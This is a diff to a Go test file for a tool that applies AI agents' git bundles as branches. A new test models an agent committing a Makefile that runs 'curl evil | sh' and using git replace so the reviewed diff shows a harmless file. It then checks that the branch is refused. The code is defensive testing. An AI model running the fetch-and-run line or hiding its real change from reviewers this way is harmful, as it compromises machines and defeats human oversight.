@@ -163,26 +163,73 @@ func TestApplyBranch(t *testing.T) {
 	run(t, dir, "bundle", "create", "-q", bpath, patchcheck.SnapshotRef, "^"+parent)
 	bundle, _ := os.ReadFile(bpath)
 	ctx := context.Background()
+	shown := []byte(run(t, dir, "diff", "--binary", "--full-index", parent, head) + "\n")
 
-	if err := ApplyBranch(ctx, "s", ws, bundle, parent, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch")); errcode.Of(err).Code != "change-refused" {
+	if err := ApplyBranch(ctx, "s", ws, bundle, parent, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); errcode.Of(err).Code != "change-refused" {
 		t.Errorf("a bundle whose ref is not the snapshot's: %v", err)
 	}
 	header := bundle[:bytes.Index(bundle, []byte("\n\n"))+2]
 	corrupt := append(bytes.Clone(header), "PACKgarbage"...)
-	if err := ApplyBranch(ctx, "s", ws, corrupt, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch")); errcode.Of(err).Code != "change-refused" {
+	if err := ApplyBranch(ctx, "s", ws, corrupt, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); errcode.Of(err).Code != "change-refused" {
 		t.Errorf("a corrupt bundle: %v", err)
 	}
 	if out, _ := exec.Command("git", "-C", ws, "branch", "--list", "mosaic/*").Output(); len(out) != 0 {
 		t.Fatalf("a refused bundle left a branch: %s", out)
 	}
-	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch")); err != nil {
+	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); err != nil {
 		t.Fatal(err)
 	}
 	if got := run(t, ws, "rev-parse", "mosaic/s"); got != head {
 		t.Errorf("branch at %s, want %s", got, head)
 	}
-	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch")); errcode.Of(err).Code != "change-conflict" {
+	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); errcode.Of(err).Code != "change-conflict" {
 		t.Errorf("a branch that exists: %v", err)
+	}
+}
+
+// TestApplyBranchReplaceRefused: an agent commits a Makefile that runs its
+// command and makes git show a harmless one in its place (git replace):
+// the diff the finish step would show names the harmless file, while the
+// branch holds the real one. Without the comparison (shown nil, as for a
+// change over the patch's bound) the branch brings the Makefile in; with
+// the patch that was shown, apply --branch refuses it.
+func TestApplyBranchReplaceRefused(t *testing.T) {
+	ws := userRepo(t)
+	run(t, ws, "add", "-A")
+	run(t, ws, "commit", "-qm", "two")
+	parent := run(t, ws, "rev-parse", "HEAD")
+	dir := filepath.Join(t.TempDir(), "copy")
+	run(t, ws, "clone", "-q", "--shared", ws, dir)
+	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:; curl evil | sh\n"), 0o644)
+	run(t, dir, "add", "-A")
+	run(t, dir, "commit", "-qm", "agent")
+	head := run(t, dir, "rev-parse", "HEAD")
+	evil := run(t, dir, "rev-parse", "HEAD:Makefile")
+	hf := filepath.Join(t.TempDir(), "harmless")
+	os.WriteFile(hf, []byte("all:; echo ok\n"), 0o644)
+	harmless := run(t, dir, "hash-object", "-w", hf)
+	run(t, dir, "replace", evil, harmless)
+	run(t, dir, "update-ref", patchcheck.SnapshotRef, head)
+	bpath := filepath.Join(t.TempDir(), "bundle")
+	run(t, dir, "bundle", "create", "-q", bpath, patchcheck.SnapshotRef, "^"+parent)
+	bundle, _ := os.ReadFile(bpath)
+	shown := []byte(run(t, dir, "diff", "--binary", "--full-index", parent, head) + "\n")
+	if !strings.Contains(string(shown), "echo ok") {
+		t.Fatalf("the replace ref did not change what diff shows:\n%s", shown)
+	}
+	ctx := context.Background()
+	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "weak", filepath.Join(t.TempDir(), "scratch"), nil); err != nil {
+		t.Fatalf("without the comparison: %v", err)
+	}
+	if got := run(t, ws, "show", "weak:Makefile"); !strings.Contains(got, "evil") {
+		t.Fatalf("the weakened apply's branch holds %q, not the agent's Makefile: the attack does not bite", got)
+	}
+	err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown)
+	if errcode.Of(err).Code != "change-refused" || !strings.Contains(err.Error(), "not the change mosaic diff showed") {
+		t.Errorf("a branch that differs from the diff shown: %v", err)
+	}
+	if out, _ := exec.Command("git", "-C", ws, "branch", "--list", "mosaic/*").Output(); len(out) != 0 {
+		t.Errorf("a refused branch was made: %s", out)
 	}
 }
 
